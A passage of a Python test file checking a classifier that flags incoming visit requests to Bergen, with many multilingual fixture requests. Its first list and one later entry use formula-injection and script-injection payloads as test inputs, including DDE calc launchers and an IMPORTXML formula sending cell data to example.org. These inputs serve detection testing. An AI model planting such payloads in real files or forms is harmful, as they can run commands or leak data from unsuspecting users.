    {"head_title": "-2+3+cmd|' /C calc'!A0"},
    {"purpose": "We want to see the library &lt;script&gt;alert(1)&lt;/script&gt;"},
    {"organisation": '=IMPORTXML(CONCAT("http://example.org",A1),"//a")'},
]
SAFE = [
    {"purpose": "We want to see the library (<20 people) and meet staff > 2 hours"},
    {"organisation": "+47 Friends of the Library"},
    {"purpose": "- the library\n- the archives\n+ perhaps a school"},
    {"purpose": "Budget = 20 000. We want to see the library <3"},
    {"contact_name": "Anne-Marie O'Neill"},
    {"purpose": "Library & archives; tables, drop-in hours and script writing courses"},
    {"purpose": "Write to Anna <anna@dalby.example.org>. We want to see the library"},
]


@pytest.mark.parametrize("fields", UNSAFE)
def test_unsafe_input_in_any_field(fields: dict[str, Any]) -> None:
    assert "unsafe-input" in flags(**{"purpose": "We want to see the library.", **fields})


@pytest.mark.parametrize("fields", SAFE)
def test_plain_signs_are_safe(fields: dict[str, Any]) -> None:
    assert "unsafe-input" not in flags(**{"purpose": "We want to see the library.", **fields})


MORE: list[tuple[str, str, str, str, dict[str, str]]] = [
    (
        "returning-visitor",
        "Kommune Holbek",
        "city",
        "Tak for jeres gæstfrihed sidste efterår. Nu vil vores skoleledere også gerne se, hvordan I arbejder med læsning.",
        {},
    ),
    (
        "returning-visitor",
        "Gmina Wolno",
        "city",
        "W maju 2023 nasza delegacja odwiedziła Bergen i oglądała tramwaj. Teraz chcielibyśmy porozmawiać o odpadach.",
        {},
    ),
    (
        "returning-visitor",
        "Stad Lier",
        "city",
        "Twee collega's waren in 2022 te gast bij uw brandweer. Nu komt de hele ploeg voor de houten huizen.",
        {},
    ),
    (
        "returning-visitor",
        "Embassy of Chile",
        "embassy",
        "The Ambassador, who called on the Mayor in 2024, would like to pay a second visit to discuss salmon research and students.",
        {},
    ),
    (
        "returning-visitor",
        "Comune di Albo",
        "city",
        "L'anno scorso ci avete ricevuti in biblioteca: ora vorremmo portare altri colleghi.",
        {},
    ),
    (
        "returning-visitor",
        "University of Kent",
        "university",
        "Two of my students spent a week at your aquarium in 2025; now we bring professors to discuss fish health with the university.",
        {},
    ),
    (
        "",
        "Ville de Brive",
        "city",
        "Lors de notre visite à Bergen en juin, nous aimerions rencontrer les pompiers et voir les maisons en bois.",
        {},
    ),
    (
        "",
        "Stadt Ahlen",
        "city",
        "Wir haben von Ihrer Stadtbahn in Bergen gehört und möchten sehen, wie sie gebaut wurde.",
        {},
    ),
    (
        "",
        "Gemeente Hoorn",
        "city",
        "Wij zijn benieuwd hoe het bij u gaat met de brandveiligheid van houten huizen en willen graag komen kijken.",
        {},
    ),
    (
        "",
        "City of Leeds",
        "city",
        "Last year our council adopted a climate budget. We would like to learn how you in Bergen report on yours each year.",
        {},
    ),
    (
        "",
        "Ayuntamiento de Vera",
        "city",
        "Nos recomendaron su ciudad por la gestión de residuos. Quisiéramos conocer la recogida neumática.",
        {},
    ),
    (
        "",
        "City of Leeds",
        "city",
        "Having seen your mayor's talk online, we want to visit the tram depot and discuss noise.",
        {},
    ),
    (
        "",
        "Sandnes kommune",
        "city",
        "Kolleger i Drammen var hos dere i fjor og skrøt av bossnettet. Vi vil også se det.",
        {},
    ),
    (
        "network",
        "Ayuntamiento de Vera",
        "city",
        "Como miembros de la red de ciudades refugio (ICORN) quisiéramos hablar de la acogida de escritores perseguidos.",
        {},
    ),
    (
        "network",
        "City of Parma",
        "city",
        "Through the UNESCO Creative Cities Network we learned of your food strategy and want to see the market.",
        {},
    ),
    (
        "network",
        "City of Graz",
        "city",
        "Wir sind im Klimabündnis und im Konvent der Bürgermeister und möchten Ihren Klimahaushalt verstehen.",
        {},
    ),
    (
        "network",
        "Ville de Liège",
        "city",
        "Notre ville, membre du réseau des Cités interculturelles, voudrait échanger sur l'accueil des réfugiés.",
        {},
    ),
    (
        "",
        "City of Oulu",
        "city",
        "Our city is part of the Nordic smart city network and the Council of European Municipalities; we want to discuss digital services.",
        {},
    ),
    (
        "",
        "Museum Kampen",
        "cultural-institution",
        "We prepare an exhibition on Hanseatic merchants and stockfish and would like to work with the curators in the store.",
        {},
    ),
    (
        "not-a-delegation",
        "Lions Club Aasiaat",
        "other",
        "We are 25 members with spouses on our yearly trip. We hope for a nice guided walk, a good dinner place by the harbour and maybe a greeting from the city.",
        {},
    ),
    (
        "not-a-delegation",
        "Les Marcheurs du Jura",
        "other",
        "Notre club de marche (20 personnes) sera à Bergen en juillet. Où dormir pas cher, quels sentiers choisir, et peut-on avoir un tarif de groupe pour le funiculaire ?",
        {},
    ),
    (
        "not-a-delegation",
        "Kaffegjengen",
        "other",
        "Hei! Vi er ni kamerater fra militæret som feirer 60 år i Bergen. Finnes det en hyggelig pub og noen som kan fortelle litt om byen på veien?",
        {},
    ),
    (
        "not-a-delegation",
        "Red Hat Ladies",
        "other",
        "A dozen ladies in red hats arriving by cruise ship! Can the tourist people arrange a tea with the mayor's wife and a peek at the shops?",
        {},
    ),
    (
        "",
        "Round Table Basel",
        "business-association",
        "Unser Verband von Hoteliers möchte mit Ihrer Tourismusorganisation über Kreuzfahrten, Nebensaison und Arbeitskräfte sprechen.",
        {},
    ),
    (
        "",
        "Walking School Bus Network",
        "ngo",
        "We promote walking to school. We want to hear how you plan safe routes, lower speeds and traffic-free school gates.",
        {},
    ),
    (
        "",
        "Friends of Fortresses",
        "ngo",
        "Our volunteers look after a fortress and want to learn from the people who run Håkonshallen about guided tours, tickets and conservation.",
        {},
    ),
    (
        "commercial",
        "Aqualert Inc",
        "business",
        "Hi there, I'm Regional Sales Director for Aqualert. Our sensors cut water loss by 35% for 80 utilities. I'm in Bergen on 8 June and would love to swing by with a sample kit for your water people and talk pricing. Coffee on me!",
        {},
    ),
    (
        "commercial",
        "TopTour",
        "business",
        "We offer teambuilding and training packages for municipalities at special prices, and would like to present our portfolio to your HR director.",
        {},
    ),
    (
        "commercial",
        "Lumina",
        "business",
        "Nous équipons déjà 300 communes avec nos luminaires connectés. Notre directeur commercial sera de passage et souhaite vous faire une démonstration et vous remettre une offre.",
        {},
    ),
    (
        "commercial",
        "Zhejiang Play Co",
        "business",
        "Dear friend, we are professional factory of playground equipment, CE certificate, good price, fast delivery. Our team visit Norway, hope to meet you kindergarten department and show samples.",
        {},
    ),
    (
        "",
        "Windmar",
        "business",
        "We plan to set up a service base for offshore wind and want to see quay areas and talk about permits and recruitment.",
        {},
    ),
    (
        "",
        "Startup Lab Porto",
        "cluster",
        "Ten start-ups with products for aquaculture want to meet the seafood cluster and learn how pilots with fish farms are organised.",
        {},
    ),
    (
        "",
        "Consulting Huber",
        "business",
        "Wir beraten Städte bei Radwegen und möchten für eine Studie im Auftrag der Stadt Linz sehen, wie Sie Fahrradstraßen planen.",
        {},
    ),
    (
        "invitation-letter",
        "Municipality of Jinja",
        "city",
        "We will send six engineers to study your waste water treatment and leak detection. To apply for visa they require an official letter of invitation from you.",
        {},
    ),
    (
        "linked-event",
        "Filmfond",
        "cultural-institution",
        "Wir kommen zum Bergen International Film Festival und möchten mit der Stadt über Filmförderung sprechen.",
        {},
    ),
    (
        "linked-event",
        "City of Vejle",
        "city",
        "Vi deltager i SDG-konferansen og vil gerne møde klimafolkene dagen efter.",
        {},
    ),
    (
        "",
        "City of Vejle",
        "city",
        "We ran a large Christmas market last year and want to hear how you permit street trading.",
        {},
    ),
    (
        "",
        "City of Turin",
        "city",
        "After the COP in Belém we decided to write a climate budget; could your climate people explain theirs?",
        {},
    ),
    (
        "unclear-purpose",
        "Département 41",
        "region",
        "Notre délégation souhaite découvrir votre belle ville et échanger sur divers sujets d'intérêt commun.",
        {},
    ),
    ("unclear-purpose", "Prefeitura", "region", "Visita institucional conforme combinado.", {}),
    (
        "unclear-purpose",
        "Regione X",
        "region",
        "La nostra delegazione desidera incontrare le autorità competenti per rafforzare i rapporti di amicizia e collaborazione.",
        {},
    ),
    (
        "unclear-purpose",
        "Urząd",
        "region",
        "Delegacja pragnie złożyć wizytę w Państwa mieście w celu wymiany doświadczeń w różnych dziedzinach.",
        {},
    ),
    (
        "unclear-purpose",
        "Landkreis",
        "region",
        "Unsere Delegation möchte Ihre schöne Stadt kennenlernen und die Beziehungen vertiefen. Näheres folgt.",
        {},
    ),
    (
        "unclear-purpose",
        "Fylke",
        "region",
        "Vi ønsker å besøke Bergen for å utveksle erfaringer og knytte kontakter. Mer informasjon kommer.",
        {},
    ),
    (
        "wrong-city",
        "Kegelclub",
        "other",
        "Wir möchten von Stralsund aus den Rugard-Turm besuchen und das Museum in Bergen. Wer empfängt uns?",
        {"country": "DE"},
    ),
    (
        "wrong-city",
        "Town of Oradea",
        "city",
        "We would like to visit the Bergen County parks department in Hackensack, New Jersey, and see the trails.",
        {"country": "RO"},
    ),
    ("unsafe-input", "City of Leeds", "city", "We want to see the library.", {"head_name": "=cmd|'/c calc'!A1"}),
    (
        "",
        "Women in Trade",
        "business-association",
        "Thirty ladies who run companies would like to meet the chamber of commerce about export and mentoring; a nice lunch is welcome.",
        {},
    ),
    (
        "",
        "Choir Academy",
        "school",
        "Our music school celebrates 40 years and wants to sing with pupils of your school of music and talk with teachers about choir teaching.",
        {},
    ),
    (
        "",
        "Rotary Forum",
        "ngo",
        "Our members work with refugees and want to hear how volunteers and the city share tasks in the introduction programme.",
        {},
    ),
    (
        "",
        "Stadt Ahlen",
        "city",
        "Wir hätten gern ein Angebot an Terminen. Thema ist die Straßenreinigung im Winter und die Preise, die Sie für externe Dienste zahlen.",
        {},
    ),
    (
        "",
        "City of Leeds",
        "city",
        "Our cabinet member and spouses will be in Norway; the officials want to discuss housing allocation and homelessness with your social department.",
        {},
    ),
    (
        "",
        "Grønt Byggefirma AS",
        "business",
        "We supply timber to builders and want to learn how the city sets climate requirements in tenders, and which norms apply.",
        {},
    ),
    (
        "",
        "Cruise Europe",
        "network",
        "Our network of ports wants to exchange on shore power, cruise passengers limits and the harbour's pricing.",
        {},
    ),
    (
        "returning-visitor",
        "Jyväskylä",
        "city",
        "Kiitos. When our mayor was your guest in 2023 you promised to show the waste pipes; we would like to see them now.",
        {},
    ),
    (
        "returning-visitor",
        "School of Art",
        "university",
        "I was an exchange student in Bergen in 2016, and now I bring my own students to meet the art academy about graphic design.",
        {},
    ),
    (
        "",
        "Gmina Wolno",
        "city",
        "Byliśmy w Oslo w 2023 roku i słyszeliśmy o bibliotece w Bergen. Chcielibyśmy ją zobaczyć i porozmawiać o czytelnictwie.",
        {},
    ),
    (
        "",
        "City of Aalen",
        "city",
        "In Bergen wurden die Holzhäuser oft von Bränden zerstört. Wir möchten sehen, wie die Feuerwehr sie heute schützt.",
        {},
    ),
    (
        "",
        "City of Delft",
        "city",
        "Bergen was in 2022 the first city with a climate plan like this, we read. We want to see how departments report.",
        {},
    ),
    (
        "network",
        "City of Delft",
        "city",
        "We sit in the Covenant of Mayors office and wish to compare climate action plans.",
        {},
    ),
    ("network", "Kommune", "city", "Vores by er med i Rainbow Cities og vil gerne høre om jeres arbejde med unge.", {}),
    (
        "",
        "City of Basel",
        "city",
        "Our city archive wants to see your digital repository and discuss how the register of births is published.",
        {},
    ),
    (
        "not-a-delegation",
        "Familie Schulte",
        "other",
        "Wir sind acht Personen und möchten Opas 80. Geburtstag in Bergen feiern. Gibt es ein nettes Lokal und ein Boot zu mieten?",
        {},
    ),
    (
        "not-a-delegation",
        "Peña ciclista",
        "other",
        "Somos quince ciclistas y pasaremos tres días en Bergen. ¿Dónde podemos dormir y comer bien, y hay alguien que nos enseñe la ciudad?",
        {},
    ),
    (
        "not-a-delegation",
        "Amici del bar",
        "other",
        "Siamo dodici amici e veniamo per un fine settimana: locali, birra, fiordi! Avete consigli e magari sconti?",
        {},
    ),
    (
        "not-a-delegation",
        "Föräldragruppen",
        "other",
        "Vi är några familjer som åker till Bergen på sportlovet. Var kan man åka pulka, bo billigt och äta med barnen?",
        {},
    ),
    (
        "commercial",
        "CleanGum AB",
        "business",
        "Hej! Vår tuggummimaskin har sålts till 120 kommuner. Vi är i Bergen den 8 juni och visar den gärna för er gatuchef, kampanjpris gäller till midsommar.",
        {},
    ),
    (
        "commercial",
        "EduSoft",
        "business",
        "Hola: nuestra aplicación ya la usan 400 colegios. Nos gustaría una reunión de 30 minutos con quien decide las compras para enseñarles una demo y las tarifas.",
        {},
    ),
    (
        "commercial",
        "Parkit",
        "business",
        "Dzień dobry, oferujemy najlepsze parkomaty na rynku w atrakcyjnej cenie. Prosimy o spotkanie z osobą odpowiedzialną za zakupy.",
        {},
    ),
    (
        "commercial",
        "LightCo",
        "business",
        "Goedendag, wij leveren energiezuinige armaturen en komen graag langs met monsters en een scherpe prijs voor uw gemeente.",
        {},
    ),
    (
        "unclear-purpose",
        "Region",
        "region",
        "Wir kommen am 8. Juni, wie letzte Woche per Mail vereinbart. Bitte Raum reservieren.",
        {},
    ),
    (
        "unclear-purpose",
        "Region",
        "region",
        "We are coming with the minister's group. Contact our embassy for the content.",
        {},
    ),
    ("unclear-purpose", "Region", "region", "Programme to follow.", {}),
    (
        "linked-event",
        "City of Delft",
        "city",
        "Delegates of ours speak at the World Tunnel Congress 2027 in Bergen; could they see the light rail tunnels?",
        {},
    ),
    (
        "",
        "City of Delft",
        "city",
        "Next year we host the European Library Summit and want to hear how your library in Bergen plans large meetings.",
        {},
    ),
    (
        "wrong-city",
        "Cycling union",
        "ngo",
        "We start in Alkmaar and cycle to Bergen aan Zee and would like to visit the Kranenburgh museum.",
        {"country": "DE"},
    ),
]


@pytest.mark.parametrize(("flag", "organisation", "kind", "purpose", "fields"), MORE)
def test_one_flag_or_none_in_everyday_requests(
    flag: str, organisation: str, kind: str, purpose: str, fields: dict[str, str]
) -> None:
    raised = flags(purpose, organisation=organisation, organisation_type=kind, **fields)
    assert raised == ((flag,) if flag else ())
